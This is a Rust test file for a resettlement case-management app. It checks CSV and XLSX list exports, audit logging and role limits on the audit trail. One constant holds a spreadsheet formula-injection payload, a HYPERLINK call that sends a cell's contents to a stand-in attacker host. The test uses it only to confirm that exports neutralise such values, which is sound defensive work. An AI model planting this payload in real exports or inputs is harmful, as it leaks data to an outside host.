//! Exports of the lists a user may see, on SQLite and PostgreSQL: each as CSV and XLSX,
//! read back (XLSX with calamine) to the same rows the list gives; every export audited;
//! a role that may not see the audit trail cannot export it (refused, no export written
//! to the trail), and a formula-looking name comes out neutralised in both formats.
use calamine::{Data, Reader, Xlsx};
use resettle_app::cases::CaseQuery;
use resettle_app::exports::{ExportRequest, ListName, SheetFormat};
use resettle_app::{App, AppError, Caller, DemoConfig, FixedClock, Keyring, Role};
use sqlx::Row;

/// A name a spreadsheet would run as a formula.
const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1)";

async fn demo_app(url: &str) -> App {
    let app = App::open(url)
        .await
        .unwrap()
        .with_keys(Keyring::parse(resettle_testkit::TEST_DATA_KEY).unwrap())
        .with_clock(std::sync::Arc::new(FixedClock::on(resettle_testkit::TODAY)));
    app.load_demo(
        &DemoConfig {
            seed: 5,
            cases: 120,
            as_of: resettle_testkit::TODAY,
        },
        false,
    )
    .await
    .unwrap();
    app
}

fn caller(name: &str, role: Role) -> Caller {
    Caller {
        username: name.into(),
        roles: vec![role],
        organisation: None,
        source: "test".into(),
    }
}

fn request(list: ListName, format: SheetFormat) -> ExportRequest {
    ExportRequest {
        list,
        format,
        cases: CaseQuery::default(),
        case_number: None,
        audit: Default::default(),
    }
}

/// The first worksheet of a workbook: its cells as text, and whether any cell holds a
/// formula.
fn read_xlsx(bytes: Vec<u8>) -> (Vec<Vec<String>>, bool) {
    let mut book: Xlsx<_> = Xlsx::new(std::io::Cursor::new(bytes)).unwrap();
    let name = book.sheet_names()[0].clone();
    let formulas = book
        .worksheet_formula(&name)
        .unwrap()
        .cells()
        .any(|(_, _, f)| !f.is_empty());
    let range = book.worksheet_range(&name).unwrap();
    let rows = range
        .rows()
        .map(|r| {
            r.iter()
                .map(|c| match c {
                    Data::Float(f) => f.to_string(),
                    Data::Int(i) => i.to_string(),
                    Data::Empty => String::new(),
                    other => other.to_string(),
                })
                .collect()
        })
        .collect();
    (rows, formulas)
}

async fn exports_in_trail(pool: &sqlx::AnyPool) -> i64 {
    sqlx::query("SELECT COUNT(*) FROM audit_log WHERE action = 'export' AND outcome = 'ok'")
        .fetch_one(pool)
        .await
        .unwrap()
        .try_get::<i64, _>(0)
        .unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn lists_export_as_csv_and_xlsx_audited_and_neutralised() {
    for db in resettle_testkit::databases() {
        let who = db.backend;
        let app = demo_app(&db.url).await;
        sqlx::any::install_default_drivers();
        let pool = sqlx::AnyPool::connect(&db.url).await.unwrap();

        // A case officer whose name is a formula may not export the audit trail: refused,
        // and nothing exported.
        let officer = caller(FORMULA, Role::CaseOfficer);
        for format in [SheetFormat::Csv, SheetFormat::Xlsx] {
            let refused = app
                .export_list(&officer, &request(ListName::Audit, format))
                .await;
            assert!(
                matches!(refused, Err(AppError::Forbidden { .. })),
                "{who}: {refused:?}"
            );
        }
        assert_eq!(exports_in_trail(&pool).await, 0, "{who}");

        // The auditor's export names the refused officer, neutralised in both formats.
        let auditor = caller("auditor", Role::Auditor);
        let csv = app
            .export_list(&auditor, &request(ListName::Audit, SheetFormat::Csv))
            .await
            .unwrap();
        let text = String::from_utf8(csv.bytes).unwrap();
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let actors: Vec<String> = reader
            .records()
            .map(|r| r.unwrap()[2].to_string())
            .collect();
        assert!(actors.iter().any(|a| a == &format!("'{FORMULA}")), "{who}");
        assert!(!actors.iter().any(|a| a.starts_with('=')), "{who}");
        let xlsx = app
            .export_list(&auditor, &request(ListName::Audit, SheetFormat::Xlsx))
            .await
            .unwrap();
        assert!(xlsx.name.starts_with("audit-2026-11-23") && xlsx.name.ends_with(".xlsx"));
        let (rows, formulas) = read_xlsx(xlsx.bytes);
        assert!(!formulas, "{who}: no cell is a formula");
        assert_eq!(rows[0][2], "actor");
        assert!(rows.iter().any(|r| r[2] == format!("'{FORMULA}")), "{who}");
        assert_eq!(exports_in_trail(&pool).await, 2, "{who}");

        // The case officer's cases: every case the list has, the same in both formats.
        let total = app
            .list_cases(&officer, &CaseQuery::default())
            .await
            .unwrap()
            .total;
        let csv = app
            .export_list(&officer, &request(ListName::Cases, SheetFormat::Csv))
            .await
            .unwrap();
        let text = String::from_utf8(csv.bytes).unwrap();
        assert_eq!(text.lines().count() as i64, total + 1, "{who}");
        assert!(
            text.starts_with("case_number,programme,state,"),
            "{who}: {text:.200}"
        );
        let xlsx = app
            .export_list(&officer, &request(ListName::Cases, SheetFormat::Xlsx))
            .await
            .unwrap();
        let (rows, _) = read_xlsx(xlsx.bytes);
        assert_eq!(rows.len() as i64, total + 1, "{who}");
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let first: Vec<String> = reader
            .records()
            .next()
            .unwrap()
            .unwrap()
            .iter()
            .map(String::from)
            .collect();
        assert_eq!(
            rows[1], first,
            "{who}: the workbook holds what the CSV does"
        );

        // A case's history, and the missions.
        let case = rows[1][0].clone();
        let events = app
            .export_list(
                &officer,
                &ExportRequest {
                    case_number: Some(case.clone()),
                    ..request(ListName::Events, SheetFormat::Csv)
                },
            )
            .await
            .unwrap();
        let shown = app.case_events(&officer, &case).await.unwrap();
        assert_eq!(
            String::from_utf8(events.bytes).unwrap().lines().count(),
            shown.len() + 1,
            "{who}"
        );
        let missions = app
            .export_list(&officer, &request(ListName::Missions, SheetFormat::Xlsx))
            .await
            .unwrap();
        let (rows, _) = read_xlsx(missions.bytes);
        assert_eq!(
            rows.len(),
            app.missions().await.unwrap().missions.len() + 1,
            "{who}"
        );
        assert_eq!(
            exports_in_trail(&pool).await,
            6,
            "{who}: every export recorded"
        );
    }
}
